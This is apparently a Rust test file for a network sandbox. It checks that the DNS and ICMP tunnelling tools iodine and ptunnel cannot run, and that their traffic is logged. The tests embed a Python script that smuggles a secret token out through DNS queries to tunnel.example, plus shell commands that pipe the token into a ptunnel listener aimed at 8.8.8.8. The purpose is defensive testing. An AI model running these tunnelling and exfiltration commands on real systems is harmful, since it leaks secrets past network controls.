//! Programs that carry a network through names and pings: none comes up, and what they send is on record.

use std::sync::Arc;

use libtest_mimic::Trial;
use redroom::{Encoding, Protocol, Redroom, Result, RunOptions};

use crate::trial;

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("tunnels::iodine_gets_no_device_and_no_root", &["iodine"], iodine),
        trial("tunnels::what_iodine_asks_first_is_a_hit_and_carries_nothing_back", &[], handshake),
        trial("tunnels::ptunnel_gets_no_raw_socket_and_its_datagrams_are_read", &["ptunnel"], ptunnel),
    ]
}

async fn iodine(redroom: Arc<Redroom>) -> Result<()> {
    let run = redroom.start_run(RunOptions::new().name("iodine")).await?;
    for way in ["-r t.redroom.test", "8.8.8.8 t.redroom.test", "-P secret 192.0.2.53 tunnel.example"] {
        let turn = run.send(format!("iodine -f {way} 2>&1")).await?;
        // It wants to be root, before it opens anything.
        assert!(turn.exit_code != Some(0) && turn.final_text.contains("Run as root"), "{way}: {turn:?}");
    }
    // Nor would root find what it needs.
    let device = "{ exec 3<>/dev/net/tun; } 2>/dev/null && echo opened; ls /dev/net 2>/dev/null; ls /sys/class/net /proc/sys/net/ipv4/conf 2>/dev/null | grep -v -x -e all -e default -e lo -e '/.*:' -e ''; true";
    let device = run.send(device).await?;
    assert_eq!(device.final_text, "", "{}", device.stderr);
    let result = run.finish().await?;
    assert_eq!((result.hits.len(), result.errors.as_slice()), (0, &[][..]), "{:?}", result.hits);
    Ok(())
}

/// The first questions of iodine's client, by its protocol: which version, in which kinds of record, with the data of a login and of
/// a packet, in base32 by its alphabet and by the standard's. A server answers each with a record that carries something.
const HANDSHAKE: &str = r#"
import base64, os, socket, struct
secret = open("token", "rb").read()
def base32(data): return base64.b32encode(data).decode().rstrip("=").lower()
def own(data): return base32(data).translate(str.maketrans("abcdefghijklmnopqrstuvwxyz234567", "abcdefghijklmnopqrstuvwxyz012345"))
kinds = {"NULL": 10, "PRIVATE": 65399, "TXT": 16, "SRV": 33, "MX": 15, "CNAME": 5, "A": 1}
questions = ["v" + own(struct.pack(">I", 0x00000502) + os.urandom(2)), "l" + own(b"\0" + b"x" * 16 + b"rm"), "yrbraa",
    "0" + base32(secret), "zsecret-" + secret.decode().lower()]
def name(text): return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"
carried = 0
for top, where in [("t.redroom.test", "192.0.2.53"), ("tunnel.example", "8.8.8.8")]:
    for kind in kinds.values():
        for question in questions:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
            s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name(question + "." + top) + struct.pack(">HH", kind, 1), (where, 53))
            answer = s.recv(4096)
            # Answers and additional records but those that name an address.
            carried += struct.unpack(">H", answer[6:8])[0] if kind != 1 else len(answer) > 600
print("asked", 2 * len(kinds) * len(questions), "carried", carried)
"#;

async fn handshake(redroom: Arc<Redroom>) -> Result<()> {
    let options = RunOptions::new()
        .name("handshake")
        .workspace([("token", "${secrets.token}"), ("handshake.py", HANDSHAKE)])
        .secrets([("token", "PLATYPUS-7731")]);
    let run = redroom.start_run(options).await?;
    let turn = run.send("python3 handshake.py").await?;
    assert_eq!(turn.final_text, "asked 70 carried 0\n", "{}", turn.stderr);
    let result = run.finish().await?;
    assert_eq!(result.hits.len(), 70);
    for hit in &result.hits {
        assert_eq!((hit.protocol, hit.blocked), (Protocol::Dns, hit.host.ends_with("tunnel.example")), "{hit:?}");
        let expected = [("0", Encoding::Base32), ("zsecret-", Encoding::CaseInsensitive)];
        for (_, encoding) in expected.iter().filter(|(begin, _)| hit.host.starts_with(begin)) {
            assert!(hit.secrets.iter().any(|found| found.encoding == *encoding), "{hit:?}");
        }
    }
    assert_eq!(result.errors, []);
    Ok(())
}

async fn ptunnel(redroom: Arc<Redroom>) -> Result<()> {
    let options = RunOptions::new()
        .name("ptunnel")
        .workspace([("token", "${secrets.token}")])
        .secrets([("token", "PLATYPUS-7731")]);
    let run = redroom.start_run(options).await?;
    let sockets = "import socket
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    for family, protocol in ((socket.AF_INET, socket.IPPROTO_ICMP), (socket.AF_INET6, socket.IPPROTO_ICMPV6)):
        try: socket.socket(family, kind, protocol); print('opened', family, kind)
        except PermissionError: pass";
    let opened = run.send(format!("python3 - <<'END'\n{sockets}\nEND")).await?;
    assert_eq!((opened.exit_code, opened.final_text.as_str()), (Some(0), ""), "{}", opened.stderr);
    // It listens on TCP, and opens its socket when somebody comes, who is served for some seconds.
    let carry = |way: &str| {
        format!(
            "ptunnel {way} -p 8.8.8.8 -lp 8000 -da 10.0.0.1 -dp 22 >/dev/null 2>&1 & tunnel=$!
             for n in $(seq 50); do cat token 2>/dev/null >/dev/tcp/127.0.0.1/8000 && echo taken && break; sleep 0.1; done 2>/dev/null
             for n in $(seq 30); do kill -0 $tunnel 2>/dev/null && sleep 0.1; done
             kill -9 $tunnel 2>/dev/null; pkill -9 -f da.10.0.0.1; true"
        )
    };
    let pings = run.send(carry("")).await?;
    assert_eq!(pings.final_text, "taken\n", "{}", pings.stderr);
    assert_eq!(run.hits(), [], "by pings something went somewhere");
    let datagrams = run.send(carry("-udp")).await?;
    assert_eq!(datagrams.final_text, "taken\n", "{}", datagrams.stderr);
    let result = run.finish().await?;
    // By datagrams, what it carries is as good as said aloud.
    assert!(result.hits.iter().all(|hit| hit.blocked && hit.address.to_string() == "8.8.8.8:53"), "{:?}", result.hits);
    let leaked = result.hits.iter().flat_map(|hit| &hit.secrets).any(|found| found.encoding == Encoding::Plain);
    assert!(leaked, "{:?}", result.hits);
    assert_eq!(result.errors, []);
    Ok(())
}
